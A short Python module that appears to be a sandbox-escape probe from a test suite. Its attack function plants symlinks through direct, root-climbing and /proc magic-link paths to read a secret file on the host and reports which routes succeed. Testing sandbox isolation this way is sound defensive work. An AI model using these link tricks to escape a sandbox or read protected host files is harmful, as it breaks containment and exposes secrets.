"""Reach a file of the host through links in scratch: straight, relative past the root, and through magic links."""
import os


def attack(target):
    secret = target["secret_file"]
    found = []
    ways = (secret, "../" * 30 + secret, f"/proc/self/root{secret}", f"/proc/1/root{secret}")
    for number, to in enumerate(ways):
        link = os.path.join(os.getcwd(), f"pyexec-link-{number}")
        os.symlink(to, link)
        try:
            if open(link).read() == target["secret"]:
                found.append(to[:40])
        except OSError:
            pass
        finally:
            os.unlink(link)
    return found
